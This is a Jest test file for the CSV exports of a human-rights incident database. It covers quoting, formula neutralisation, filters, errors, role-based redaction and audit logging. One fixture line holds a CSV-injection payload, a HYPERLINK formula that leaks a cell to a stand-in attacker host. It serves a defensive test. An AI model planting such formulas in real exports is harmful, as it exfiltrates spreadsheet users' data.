import { Role } from '../../src/access/role';
import { CountBasis } from '../../src/common/count-estimate';
import { IncidentKind } from '../../src/incidents/incident-kind';
import { Incident } from '../../src/incidents/incident.entity';
import { Source } from '../../src/sources/source.entity';
import { AccessFixture, buildAccessFixture, SECRET } from '../support/access-fixture';
import { buildResearchFixture, count, date, ResearchFixture } from '../support/research-fixture';
import { startTestApp, TestApp } from '../support/test-app';
import { EXPORT_ROUTES, ExportRoute } from '../../src/exports/routes';
import { csv, download, listIds, queryOf, readCsv, secretStrings } from './support';

const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const AWKWARD = 'Commas, "double quotes", a \'single\' one,\nand a second line\r\nand a third; ünïcödé ✓';

describe('CSV exports', () => {
  let t: TestApp;
  let f: AccessFixture;
  let r: ResearchFixture;
  let injected: Incident;

  beforeAll(async () => {
    t = await startTestApp();
    f = await buildAccessFixture(t.dataSource);
    r = await buildResearchFixture(t.dataSource);
    // Text an attacker could submit: a formula, and every character CSV must quote.
    injected = await t.dataSource.getRepository(Incident).save(
      t.dataSource.getRepository(Incident).create({
        kind: IncidentKind.OTHER, headline: INJECTION, description: AWKWARD, regionCode: 'UA', date: date('2020-02'),
        locality: '+380 city', perpetratorDescription: '@someone', victims: count({ atLeast: 3, asReported: '-3 or more' }), deaths: count(),
      }),
    );
    await t.dataSource.getRepository(Source).update(r.s.testimony.id, { url: 'https://hidden.example/testimony' });
    await t.dataSource.getRepository(Source).update(r.s.hrw.id, { url: 'https://hrw.example/long-arms' });
    for (const role of [Role.RESEARCHER, Role.EDITOR, Role.ADMIN] as const) await t.tokenFor(role);
  });
  afterAll(() => t.close());

  const lastAuditId = async () => Number((await t.dataSource.query('SELECT coalesce(max(id), 0) AS id FROM audit_event'))[0].id);
  const exportsSince = (id: number) => t.dataSource.query(`SELECT * FROM audit_event WHERE id > $1 AND action = 'EXPORT' ORDER BY id`, [id]);

  describe('format', () => {
    it('is UTF-8 CSV with a header row, sent as an attachment', async () => {
      const d = await download(t, '/exports/incidents.csv');
      expect(d.status).toBe(200);
      expect(d.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(d.headers['content-disposition']).toBe('attachment; filename="incidents.csv"');
      expect(d.headers['cache-control']).toBe('private, no-store');
      expect(d.bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
      const { header, rows } = readCsv(d.text);
      expect(header.slice(0, 5)).toEqual(['id', 'kind', 'headline', 'description', 'date_start']);
      expect(rows.length).toBeGreaterThan(5);
    });

    it('starts with a byte order mark for Excel on request', async () => {
      const d = await download(t, '/exports/incidents.csv?bom=true');
      expect([...d.bytes.subarray(0, 4)]).toEqual([0xef, 0xbb, 0xbf, 'i'.charCodeAt(0)]);
      expect(readCsv(d.text).header[0]).toBe('id');
      expect((await download(t, '/exports/responses.csv?bom=true')).bytes.subarray(0, 3).toString('hex')).toBe('efbbbf');
      expect((await download(t, '/exports/incidents.csv?bom=false')).bytes[0]).toBe('i'.charCodeAt(0));
    });

    it('quotes commas, quotes and line breaks so a parser reads the text back exactly', async () => {
      const { rows, text } = await csv(t, '/exports/incidents.csv?regions=UA');
      const row = rows.find((x) => x.id === injected.id)!;
      expect(row.description).toBe(AWKWARD);
      expect(text).toContain('"Commas, ""double quotes"", a \'single\' one,\nand a second line\r\nand a third; ünïcödé ✓"');
    });

    it('neutralises formulas: a text cell starting with = + - @ gets a leading quote', async () => {
      const { rows } = await csv(t, '/exports/incidents.csv?regions=UA');
      const row = rows.find((x) => x.id === injected.id)!;
      expect(row.headline).toBe(`'${INJECTION}`);
      expect(row.locality).toBe("'+380 city");
      expect(row.perpetrator_description).toBe("'@someone");
      expect(row.victims_as_reported).toBe("'-3 or more");
      // Numbers stay numbers.
      expect(row.victims_at_least).toBe('3');
    });

    it('writes dates as ISO 8601 with their precision and EDTF, counts as ranges, booleans as true/false', async () => {
      const { rows } = await csv(t, '/exports/incidents.csv?regions=RU-CE&regions=RU-MOW&regions=UA');
      const byId = new Map(rows.map((x) => [x.id, x]));
      expect(byId.get(r.i.abductions.id)).toMatchObject({
        date_start: '2017-04-01', date_end: '', date_latest: '2017-04-30', date_precision: 'MONTH', date_edtf: '2017-04',
        date_approximate: 'false', date_open_end: 'false', victims_at_least: '100', victims_best: '', victims_at_most: '', victims_basis: 'ESTIMATED',
        region_code: 'RU-CE', country_code: 'RU', verification_status: 'CORROBORATED', situation_id: r.situation.id,
      });
      expect(byId.get(r.i.prison.id)).toMatchObject({ date_start: '2017-04-01', date_end: '2017-06-01', date_latest: '2017-06-30', date_edtf: '2017-04/2017-06' });
      expect(byId.get(r.i.moscow.id)).toMatchObject({ date_precision: 'YEAR', date_edtf: '2018', date_latest: '2018-12-31', region_name: expect.stringMatching(/Moskva|Moscow/) });
      const open = rows.find((x) => x.date_open_end === 'true')!;
      expect(open).toMatchObject({ date_latest: '', date_edtf: expect.stringMatching(/\/\.\.$/) });
      expect(byId.get(r.i.killing.id)!.updated_at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    });

    it('gives provenance from visible citations of visible sources only', async () => {
      const byId = async (as: Role) => new Map((await csv(t, '/exports/incidents.csv?regions=RU', as)).rows.map((x) => [x.id, x]));
      const anonymous = (await byId(Role.PUBLIC)).get(r.i.abductions.id)!;
      expect(anonymous).toMatchObject({ source_count: '3', independent_source_count: '2', source_urls: 'https://hrw.example/long-arms' });
      const editor = (await byId(Role.EDITOR)).get(r.i.abductions.id)!;
      expect(editor).toMatchObject({ source_count: '4', independent_source_count: '3', source_urls: 'https://hidden.example/testimony | https://hrw.example/long-arms' });
      // A confidential response does not count as an answer for the public.
      expect((await byId(Role.PUBLIC)).get(r.i.moscow.id)!.response_count).toBe('0');
      expect((await byId(Role.EDITOR)).get(r.i.moscow.id)!.response_count).toBe('1');
    });
  });

  describe('filters', () => {
    const incidentCases: [Record<string, unknown>, string | undefined][] = [
      [{}, undefined],
      [{ regions: ['RU'] }, undefined],
      [{ regions: ['RU-CE'], dateFrom: '2017-04-01', dateTo: '2017-12-31' }, 'DATE_ASC'],
      [{ dateFrom: '2017-04-01', dateTo: '2017-04-30', dateMatch: 'WITHIN' }, undefined],
      [{ kinds: ['KILLING', 'DETENTION', 'ABDUCTION'], verificationStatuses: ['CORROBORATED', 'VERIFIED'] }, 'UPDATED_DESC'],
      [{ victims: { min: 35 } }, 'VICTIMS_DESC'],
      [{ deaths: { min: 1, match: 'WITHIN' } }, 'DEATHS_DESC'],
      [{ hasResponse: false }, undefined],
      [{ responseKinds: ['PETITION'] }, undefined],
      [{ sourcePublisher: 'novaya', minIndependentSources: 1 }, undefined],
      [{ sourceKinds: ['NGO_REPORT'] }, undefined],
      [{ search: 'prison or detained' }, 'RELEVANCE'],
      [{ perpetrator: 'chechen' }, undefined],
    ];

    it.each(incidentCases)('incidents.csv with %j (order %s) holds exactly the GraphQL list\'s incidents, in its order', async (filter, orderBy) => {
      for (const role of [Role.PUBLIC, Role.EDITOR]) {
        const expected = await listIds(t, 'incidents', filter, orderBy, role);
        expect(expected.length).toBeGreaterThan(0);
        const { rows } = await csv(t, `/exports/incidents.csv${queryOf({ ...filter, ...(orderBy ? { orderBy } : {}) })}`, role);
        expect(rows.map((x) => x.id)).toEqual(expected);
      }
    });

    it('takes lists as repeated or comma-separated parameters alike', async () => {
      const repeated = await csv(t, '/exports/incidents.csv?kinds=KILLING&kinds=DETENTION');
      const commas = await csv(t, '/exports/incidents.csv?kinds=KILLING,DETENTION');
      expect(commas.rows.map((x) => x.id)).toEqual(repeated.rows.map((x) => x.id));
      expect(repeated.rows.length).toBeGreaterThan(1);
    });

    it('takes the responses list\'s filter and orders on responses.csv', async () => {
      const cases: [Record<string, unknown>, string | undefined][] = [
        [{}, undefined],
        [{ regions: ['GB'] }, 'DATE_ASC'],
        [{ kinds: ['PETITION', 'PROTEST'] }, undefined],
        [{ incidentId: r.i.abductions.id }, undefined],
        [{ organizationId: r.amnesty.id }, undefined],
        [{ search: 'petition' }, 'RELEVANCE'],
      ];
      for (const [filter, orderBy] of cases) {
        for (const role of [Role.PUBLIC, Role.EDITOR]) {
          const expected = await listIds(t, 'advocacyResponses', filter, orderBy, role);
          expect(expected.length).toBeGreaterThan(0);
          const { rows } = await csv(t, `/exports/responses.csv${queryOf({ ...filter, ...(orderBy ? { orderBy } : {}) })}`, role);
          expect(rows.map((x) => x.id)).toEqual(expected);
        }
      }
    });

    it('takes the sources list\'s filter and orders on sources.csv, and on citations.csv for the cited sources', async () => {
      const cases: [Record<string, unknown>, string | undefined][] = [
        [{}, undefined],
        [{ publisher: 'novaya' }, 'DATE_ASC'],
        [{ kinds: ['NGO_REPORT', 'TESTIMONY'] }, undefined],
        [{ dateFrom: '2017-05-01', dateTo: '2017-05-31' }, undefined],
      ];
      for (const [filter, orderBy] of cases) {
        for (const role of [Role.PUBLIC, Role.EDITOR]) {
          const expected = await listIds(t, 'sources', filter, orderBy, role);
          expect(expected.length).toBeGreaterThan(0);
          const { rows } = await csv(t, `/exports/sources.csv${queryOf({ ...filter, ...(orderBy ? { orderBy } : {}) })}`, role);
          expect(rows.map((x) => x.id)).toEqual(expected);
          const cited = await csv(t, `/exports/citations.csv${queryOf(filter)}`, role);
          expect(cited.rows.length).toBeGreaterThan(0);
          for (const row of cited.rows) expect(expected).toContain(row.source_id);
        }
      }
      const novaya = await csv(t, '/exports/citations.csv?publisher=Novaya');
      expect(novaya.rows.map((x) => x.source_id).sort()).toEqual([r.s.novaya1.id, r.s.novaya1.id, r.s.novaya2.id].sort());
    });

    it('keeps every export current with updatedSince', async () => {
      const later = '2031-01-01T00:00:00.000Z';
      // A change everyone may see: every change stamp moves with updated_at (src/access/change-stamps.ts).
      const changed = 'updated_at = $1, public_updated_at = $1, restricted_updated_at = $1';
      await t.dataSource.query(`UPDATE incident SET ${changed} WHERE id = $2`, [later, r.i.killing.id]);
      await t.dataSource.query(`UPDATE advocacy_response SET ${changed} WHERE id = $2`, [later, r.r.protest.id]);
      await t.dataSource.query(`UPDATE source SET ${changed} WHERE id = $2`, [later, r.s.novaya2.id]);
      await t.dataSource.query(`UPDATE citation SET ${changed} WHERE incident_id = $2`, [later, r.i.killing.id]);
      const since = 'updatedSince=2030-12-31T23:00:00Z';
      expect((await csv(t, `/exports/incidents.csv?${since}`)).rows.map((x) => x.id)).toEqual([r.i.killing.id]);
      expect((await csv(t, `/exports/responses.csv?${since}`)).rows.map((x) => x.id)).toEqual([r.r.protest.id]);
      expect((await csv(t, `/exports/sources.csv?${since}`)).rows.map((x) => x.id)).toEqual([r.s.novaya2.id]);
      expect((await csv(t, `/exports/citations.csv?${since}`)).rows.map((x) => x.incident_id)).toEqual([r.i.killing.id]);
      // "+01:00" arrives as " 01:00" when the + is not encoded; it is read as the offset.
      expect((await csv(t, '/exports/incidents.csv?updatedSince=2031-01-01T00:30:00+01:00')).rows.map((x) => x.id)).toEqual([r.i.killing.id]);
    });
  });

  describe('bad requests', () => {
    const problemsOf = async (path: string) => {
      const d = await download(t, path);
      expect(d.status).toBe(400);
      expect(d.headers['content-type']).toMatch(/^application\/json/);
      return JSON.parse(d.text);
    };

    it('takes dateFrom and dateTo as a year, month or day, as GraphQL does', async () => {
      const ids = async (query: string) => readCsv((await download(t, `/exports/incidents.csv?${query}`)).text).rows.map((row) => row[0]).sort();
      const april = await ids('dateFrom=2017-04-01&dateTo=2017-04-30');
      expect(april.length).toBeGreaterThan(0);
      expect(await ids('dateFrom=2017-04&dateTo=2017-04')).toEqual(april);
      expect(await ids('dateFrom=2017&dateTo=2017')).toEqual(await ids('dateFrom=2017-01-01&dateTo=2017-12-31'));
      expect((await problemsOf('/exports/incidents.csv?dateFrom=2017-4')).problems).toEqual([
        { parameter: 'dateFrom', message: 'must be a year, month or day (EDTF), e.g. 2017, 2017-04 or 2017-04-01' },
      ]);
    });

    it('answers 400 naming each bad parameter and the problem', async () => {
      expect((await problemsOf('/exports/incidents.csv?dateFrom=2017-02-30')).problems).toEqual([{ parameter: 'dateFrom', message: expect.stringMatching(/year, month or day/) }]);
      expect((await problemsOf('/exports/incidents.csv?regions=XX')).problems).toEqual([{ parameter: 'regions', message: expect.stringContaining('unknown region code "XX"') }]);
      expect((await problemsOf('/exports/incidents.csv?dateFrom=2018-01-01&dateTo=2017-01-01')).problems).toEqual([{ parameter: 'dateTo', message: 'is before dateFrom' }]);
      expect((await problemsOf('/exports/incidents.csv?orderBy=RELEVANCE')).problems).toEqual([{ parameter: 'orderBy', message: 'RELEVANCE needs filter.search' }]);
      expect((await problemsOf('/exports/incidents.csv?victims.min=-1')).problems).toEqual([{ parameter: 'victims.min', message: 'must not be negative' }]);
      expect((await problemsOf('/exports/incidents.csv?situationId=42')).problems).toEqual([{ parameter: 'situationId', message: 'must be an id (UUID)' }]);
      const body = await problemsOf('/exports/incidents.csv?first=10&kinds=TORTURE&bom=yes');
      expect(body).toMatchObject({ statusCode: 400, error: 'Bad Request', code: 'BAD_USER_INPUT' });
      expect(body.problems.map((p: { parameter: string }) => p.parameter)).toEqual(['first', 'kinds[0]', 'bom']);
      expect((await problemsOf('/exports/citations.csv?orderBy=DATE_ASC')).problems).toEqual([{ parameter: 'orderBy', message: 'is not a parameter of this export' }]);
      expect((await problemsOf('/exports/sources.csv?search=a%00b')).problems).toEqual([{ parameter: 'search', message: 'must not contain a NUL character' }]);
    });

    it('answers 403 for a protected filter the viewer may not use, before any SQL runs, whatever its value', async () => {
      const box = 'within.south=43&within.north=44&within.west=45&within.east=46';
      for (const path of [`/exports/incidents.csv?${box}`, '/exports/incidents.csv?within.south=0&within.north=90&within.west=-180&within.east=180']) {
        const d = await download(t, path);
        expect(d.status).toBe(403);
        expect(JSON.parse(d.text)).toEqual({
          statusCode: 403, error: 'Forbidden', code: 'FORBIDDEN', parameter: 'within', field: 'IncidentFilter.within',
          message: 'within: not allowed to filter or sort on IncidentFilter.within',
        });
      }
      expect((await download(t, `/exports/incidents.csv?${box}`, Role.RESEARCHER)).status).toBe(200);
      const deleted = await download(t, '/exports/sources.csv?includeDeleted=true', Role.RESEARCHER);
      expect(deleted.status).toBe(403);
      expect(JSON.parse(deleted.text)).toMatchObject({ parameter: 'includeDeleted' });
      expect((await download(t, '/exports/sources.csv?includeDeleted=true', Role.EDITOR)).status).toBe(200);
    });

    it('answers 401 for a bad token, never a quieter anonymous export', async () => {
      for (const header of ['Bearer vigil_not-a-real-token', 'Basic abc', 'Bearer']) {
        const res = await t.http().get('/exports/incidents.csv').set('Authorization', header);
        expect(res.status).toBe(401);
        expect(res.headers['www-authenticate']).toMatch(/^Bearer/);
        expect(res.text).not.toContain('headline');
      }
    });
  });

  describe('access', () => {
    const PROTECTED = ['latitude', 'longitude', 'internal_notes'];

    it('leaves out of the header the columns the viewer may not read, and their values everywhere', async () => {
      const expected: Record<string, string[]> = { PUBLIC: [], RESEARCHER: ['latitude', 'longitude'], EDITOR: PROTECTED, ADMIN: PROTECTED };
      for (const role of [Role.PUBLIC, Role.RESEARCHER, Role.EDITOR, Role.ADMIN]) {
        const { header, rows, text } = await csv(t, '/exports/incidents.csv', role);
        expect({ role, columns: header.filter((h) => PROTECTED.includes(h)) }).toEqual({ role, columns: expected[role] });
        const fixture = rows.find((x) => x.id === f.incidentId)!;
        if (role === Role.PUBLIC) {
          for (const secret of [String(SECRET.latitude), String(SECRET.longitude), SECRET.internalNotes]) expect(text).not.toContain(secret);
        } else {
          expect(fixture).toMatchObject({ latitude: String(SECRET.latitude), longitude: String(SECRET.longitude) });
        }
        if (role === Role.RESEARCHER) expect(text).not.toContain(SECRET.internalNotes);
        if (role === Role.EDITOR) expect(fixture.internal_notes).toBe(SECRET.internalNotes);
      }
    });

    it('never writes a person\'s protected values, in any export, for any role', async () => {
      const people = [SECRET.fullName, SECRET.otherNames, SECRET.occupation, SECRET.contact, SECRET.notes, SECRET.involvementDescription];
      for (const role of [Role.PUBLIC, Role.RESEARCHER, Role.EDITOR]) {
        // Every CSV route, so a new file is covered as soon as it is routed.
        // With and without the text in the reader's languages, where the route takes them.
        const routes = (Object.values(EXPORT_ROUTES) as ExportRoute[]).filter((e) => e.file.endsWith('.csv'));
        for (const path of routes.flatMap((e) => [`/exports/${e.file}`, ...('language' in e.options ? [`/exports/${e.file}?language=ru,fr`] : [])])) {
          const { text } = await csv(t, path, role);
          for (const secret of people) expect({ path, role, leaked: text.includes(secret) }).toEqual({ path, role, leaked: false });
        }
      }
      expect(secretStrings(SECRET).length).toBeGreaterThan(5);
    });

    it('leaves out records the viewer may not see, and links through them', async () => {
      const ids = async (path: string, role: Role) => (await csv(t, path, role)).rows.map((x) => x.id);
      for (const role of [Role.PUBLIC, Role.RESEARCHER]) {
        for (const file of ['incidents.csv', 'responses.csv', 'situations.csv', 'citations.csv']) {
          expect({ file, ids: await ids(`/exports/${file}?language=ru`, role) }).toEqual({ file, ids: await ids(`/exports/${file}`, role) });
        }
        expect(await ids('/exports/incidents.csv', role)).not.toContain(r.i.hidden.id);
        expect(await ids('/exports/responses.csv', role)).not.toContain(r.r.hiddenStatement.id);
        expect(await ids('/exports/sources.csv', role)).not.toContain(r.s.testimony.id);
        const citations = (await csv(t, '/exports/citations.csv', role)).rows;
        expect(citations.map((x) => x.source_id)).not.toContain(r.s.testimony.id);
        expect(citations.map((x) => x.incident_id)).not.toContain(r.i.hidden.id);
        const moscowAnswers = (await csv(t, '/exports/responses.csv', role)).rows.filter((x) => x.incident_ids.includes(r.i.moscow.id));
        expect(moscowAnswers).toEqual([]);
        const body = (await download(t, '/exports/incidents.csv', role)).text;
        expect(body).not.toContain('Unpublished torture testimony');
        expect(body).not.toContain('hidden.example');
        // The confidential testimony's publisher is in no joined column (source_publishers).
        for (const file of ['incidents.csv', 'responses.csv', 'situations.csv', 'organizations.csv']) {
          expect({ file, leaked: (await download(t, `/exports/${file}`, role)).text.includes('Witness collective') }).toEqual({ file, leaked: false });
        }
        const abductions = (await csv(t, '/exports/incidents.csv', role)).rows.find((x) => x.id === r.i.abductions.id)!;
        expect(abductions.source_publishers.split(' | ').sort()).toEqual(['Human Rights Watch', 'Novaya Gazeta']);
      }
      const forEditors = (await csv(t, '/exports/incidents.csv', Role.EDITOR)).rows.find((x) => x.id === r.i.abductions.id)!;
      expect(forEditors.source_publishers.split(' | ')).toContain('Witness collective');
      expect(await ids('/exports/incidents.csv', Role.EDITOR)).toContain(r.i.hidden.id);
      expect(await ids('/exports/responses.csv', Role.EDITOR)).toContain(r.r.hiddenStatement.id);
    });

    it('records an EXPORT audit entry with the fields, level, subjects and row count, before the body; nothing for public columns', async () => {
      let since = await lastAuditId();
      await csv(t, '/exports/incidents.csv');
      await csv(t, '/exports/responses.csv', Role.RESEARCHER);
      expect(await exportsSince(since)).toEqual([]);

      since = await lastAuditId();
      const { rows } = await csv(t, '/exports/incidents.csv', Role.RESEARCHER);
      const [entry, ...more] = await exportsSince(since);
      expect(more).toEqual([]);
      expect(entry).toMatchObject({
        account_id: await t.accountIdFor(Role.RESEARCHER),
        actor: 'researcher@test.vigil',
        role: 'RESEARCHER',
        action: 'EXPORT',
        operation: `GET /exports/incidents.csv (${rows.length} rows)`,
        fields: ['Incident.latitude', 'Incident.longitude'],
        level: 'RESTRICTED',
        subjects: [`Incident:${f.incidentId}`],
        subject_count: 1,
        changes: null,
      });
      expect(entry.request_id).toBeTruthy();
      expect(JSON.stringify(entry)).not.toContain(String(SECRET.latitude));

      since = await lastAuditId();
      await csv(t, '/exports/incidents.csv?regions=RU-CE', Role.EDITOR);
      const [editorEntry] = await exportsSince(since);
      expect(editorEntry).toMatchObject({ fields: ['Incident.internalNotes', 'Incident.latitude', 'Incident.longitude'], level: 'CONFIDENTIAL' });
    });

    it('answers HEAD with the headers and checks, without running the export or auditing it', async () => {
      const since = await lastAuditId();
      const head = await t.http().head('/exports/incidents.csv').set('Authorization', `Bearer ${await t.tokenFor(Role.RESEARCHER)}`);
      expect(head.status).toBe(200);
      expect(head.headers['content-type']).toMatch(/^text\/csv/);
      expect(await exportsSince(since)).toEqual([]);
      expect((await t.http().head('/exports/incidents.csv?dateFrom=yesterday')).status).toBe(400);
      expect((await t.http().head('/exports/incidents.csv?within.south=43&within.north=44&within.west=45&within.east=46')).status).toBe(403);
    });

    it('withholds a protected export when the audit log cannot be written (503, nothing sent)', async () => {
      await t.dataSource.query('ALTER TABLE audit_event RENAME TO audit_event_away');
      try {
        const d = await download(t, '/exports/incidents.csv', Role.RESEARCHER);
        expect(d.status).toBe(503);
        expect(JSON.parse(d.text)).toMatchObject({ statusCode: 503, code: 'SERVICE_UNAVAILABLE' });
        expect(d.text).not.toContain(String(SECRET.latitude));
        expect(d.text).not.toContain('headline');
        // An export with no protected column needs no audit entry.
        expect((await download(t, '/exports/incidents.csv')).status).toBe(200);
      } finally {
        await t.dataSource.query('ALTER TABLE audit_event_away RENAME TO audit_event');
      }
      expect((await download(t, '/exports/incidents.csv', Role.RESEARCHER)).status).toBe(200);
    });
  });

  it('exports counts with their basis, as the API gives them', async () => {
    const { rows } = await csv(t, '/exports/incidents.csv?regions=RU-CE');
    expect(rows.find((x) => x.id === r.i.killing.id)).toMatchObject({ deaths_at_least: '2', deaths_best: '2', deaths_at_most: '2', deaths_basis: '' });
    expect(rows.find((x) => x.id === r.i.abductions.id)).toMatchObject({ victims_basis: CountBasis.ESTIMATED, victims_as_reported: 'over 100 men' });
  });
});
